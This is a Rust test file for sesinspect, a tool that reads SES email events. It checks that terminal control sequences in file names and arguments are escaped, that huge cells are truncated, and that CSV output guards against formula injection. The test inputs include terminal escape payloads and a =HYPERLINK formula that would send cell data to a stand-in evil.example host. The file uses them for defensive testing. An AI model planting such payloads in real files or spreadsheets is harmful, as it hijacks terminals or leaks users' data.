//! What sesinspect writes for people stays safe and proportional whatever the input: stderr
//! that cannot be written, hostile text in errors, spreadsheets, huge cells.

use std::process::{Command, Stdio};

use super::harness::{on_a_terminal, root, run};

/// Every character of `text` that could drive a terminal: controls, bidi, invisible.
fn raw_controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{e0000}'..='\u{e007f}')
        })
        .collect()
}

/// Runs sesinspect with stderr open on `stderr`: (exit code, what a panic would have said).
fn run_with_stderr(args: &[&str], stderr: impl Into<Stdio>) -> Option<i32> {
    Command::new(assert_cmd::cargo::cargo_bin("sesinspect"))
        .args(args)
        .current_dir(root())
        .stdout(Stdio::null())
        .stderr(stderr)
        .status()
        .expect("runs")
        .code()
}

#[test]
fn a_stderr_that_cannot_be_written_ends_the_run_quietly_with_its_code() {
    let full = || {
        std::fs::OpenOptions::new()
            .write(true)
            .open("/dev/full")
            .expect("/dev/full")
    };
    let failing: [&[&str]; 4] = [
        &["fields", "-F", "no_such_field", "tests/fixtures/invalid"],
        &[
            "summary",
            "tests/fixtures/invalid/receipt-without-mail.json",
        ],
        &["summary", "no/such/file.json"],
        &["--no-such-flag"],
    ];
    for args in failing {
        assert_eq!(
            run_with_stderr(args, full()),
            Some(2),
            "{args:?} into /dev/full"
        );
        let (reader, writer) = std::io::pipe().expect("a pipe");
        drop(reader);
        assert_eq!(
            run_with_stderr(args, writer),
            Some(2),
            "{args:?} into a closed pipe"
        );
    }
}

#[test]
fn file_names_and_event_types_are_escaped_on_stderr() {
    let dir = tempfile::TempDir::new().expect("temp dir");
    let name = dir.path().join("evil\u{1b}]0;owned\u{7}\u{202e}.json");
    std::fs::copy(
        root().join("tests/fixtures/hostile/escapes-in-types-and-keys.json"),
        &name,
    )
    .expect("copied");
    let (code, _, err) = run(&["summary", name.to_str().expect("UTF-8")]);
    assert_eq!(code, 2);
    assert_eq!(raw_controls(&err), [], "{err:?}");
    assert!(
        err.contains("evil\\u{1b}]0;owned\\u{7}\\u{202e}.json:1:1"),
        "{err}"
    );
    assert!(
        err.contains("an SES Bo\\u{1b}[2Jnce\\u{202e} event"),
        "{err}"
    );
    assert!(
        err.contains("Rec\\u{1b}]0;x\\u{7}eived notification"),
        "{err}"
    );
    assert!(err.contains("an SNS Noti\\u{1b}cation message"), "{err}");
    assert!(err.contains("keys k\\u{1b}[31m"), "{err}");
    assert_eq!(err.lines().count(), 4, "{err}");
}

#[test]
fn field_names_from_the_command_line_are_escaped_on_stderr() {
    let (code, _, err) = run(&["fields", "-F", "sub\u{1b}[2Jject\u{e0041}", "x.json"]);
    assert_eq!(code, 2);
    assert_eq!(raw_controls(&err), [], "{err:?}");
    assert!(
        err.contains("unknown field `sub\\u{1b}[2Jject\\u{e0041}`"),
        "{err}"
    );
}

#[test]
fn usage_errors_quoting_hostile_arguments_are_escaped_on_a_terminal() {
    let screen = on_a_terminal(
        r#"sesinspect summary --format "$(printf 'ta\033[31mble\342\200\256')" x.json"#,
        b"",
    );
    assert!(
        screen.contains("invalid value 'ta\\u{1b}[31mble\\u{202e}' for '--format <FORMAT>'"),
        "{screen:?}"
    );
    assert_eq!(raw_controls(&screen.replace('\r', "")), [], "{screen:?}");
    let plain = on_a_terminal("sesinspect --no-such-flag", b"");
    assert!(
        plain.contains("\u{1b}["),
        "ordinary errors keep clap's colours: {plain:?}"
    );
}

/// NDJSON of `count` copies of a receipt event, the first with `subject` (in its headers too).
fn events_with_one_subject(subject: &str, count: usize) -> String {
    let path = root().join("tests/fixtures/public/aws-lambda-go__ses-lambda-event.json");
    let document: serde_json::Value =
        serde_json::from_slice(&std::fs::read(path).expect("fixture")).expect("JSON");
    let mut event = document["Records"][0].clone();
    let small = event.to_string();
    let mail = &mut event["ses"]["mail"];
    mail["commonHeaders"]["subject"] = subject.into();
    for header in mail["headers"].as_array_mut().expect("headers") {
        if header["name"] == "Subject" {
            header["value"] = subject.into();
        }
    }
    let mut lines = vec![event.to_string()];
    lines.extend(std::iter::repeat_n(small, count - 1));
    lines.join("\n")
}

#[test]
fn a_table_stays_in_proportion_to_its_input_whatever_one_cell_holds() {
    let input = events_with_one_subject(&"word ".repeat(40_000), 200);
    let dir = tempfile::TempDir::new().expect("temp dir");
    let path = dir.path().join("events.ndjson");
    std::fs::write(&path, &input).expect("written");
    let path = path.to_str().expect("UTF-8");
    let (code, table, err) = run(&["summary", path]);
    assert_eq!((code, err.as_str()), (0, ""));
    assert!(
        table.len() < 2 * input.len(),
        "{} bytes of table for {} bytes of input",
        table.len(),
        input.len()
    );
    assert!(table.contains("word … (199040 more characters)"), "{table}");
    let (_, tsv, _) = run(&["fields", "-F", "subject", path]);
    assert!(
        tsv.starts_with("word ".repeat(40_000).trim_end()),
        "data formats keep it whole"
    );
}

#[test]
fn a_long_cell_wraps_for_the_terminal_quickly() {
    let input = events_with_one_subject(&"word ".repeat(100_000), 1);
    let started = std::time::Instant::now();
    let (code, table, _) = super::harness::sesinspect(&["summary", "--color", "always", "-"])
        .stdin(input)
        .env("COLUMNS", "100")
        .run();
    assert_eq!(code, 0);
    assert!(
        table.lines().all(|line| table_width(line) <= 100),
        "{table}"
    );
    assert!(started.elapsed() < std::time::Duration::from_secs(2));
}

/// Columns a line takes on a terminal, colour codes aside.
fn table_width(line: &str) -> usize {
    let plain = regex::Regex::new("\u{1b}\\[[0-9;]*m").expect("regex");
    plain.replace_all(line, "").chars().count()
}

#[test]
fn csv_keeps_exact_values_unless_asked_to_guard_spreadsheets() {
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    let dir = tempfile::TempDir::new().expect("temp dir");
    let path = dir.path().join("events.ndjson");
    std::fs::write(&path, events_with_one_subject(formula, 1)).expect("written");
    let path = path.to_str().expect("UTF-8");
    let quoted = "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\"";
    let (_, exact, _) = run(&["fields", "-f", "csv", "-F", "subject,spf", path]);
    assert_eq!(exact, format!("{quoted},PASS\r\n"));
    let guarded_args = ["-f", "csv", "--spreadsheet-safe", path];
    let (_, guarded, _) = run(&[&["fields", "-F", "subject,spf"], &guarded_args[..]].concat());
    assert_eq!(
        guarded,
        format!("\"'{}\",PASS\r\n", &quoted[1..quoted.len() - 1])
    );
    let (_, tsv, _) = run(&["fields", "-F", "subject", "--spreadsheet-safe", path]);
    assert_eq!(tsv, format!("'{formula}\n"));
    let (_, summary, _) = run(&[&["summary"], &guarded_args[..]].concat());
    assert!(summary.contains(",\"'=HYPERLINK("), "{summary}");
    let (_, headers, _) = run(&[&["headers", "-n", "Subject"], &guarded_args[..]].concat());
    assert!(headers.contains(",Subject,\"'=HYPERLINK("), "{headers}");
    for (value, guarded) in [
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\\tx"),
        ("a=b", "a=b"),
    ] {
        let input = events_with_one_subject(value, 1);
        let (_, csv, _) = super::harness::sesinspect(&[
            "fields",
            "-f",
            "csv",
            "-F",
            "subject",
            "--spreadsheet-safe",
        ])
        .stdin(input)
        .run();
        assert_eq!(csv.trim_end(), guarded.replace("\\t", "\t"), "{value:?}");
    }
}
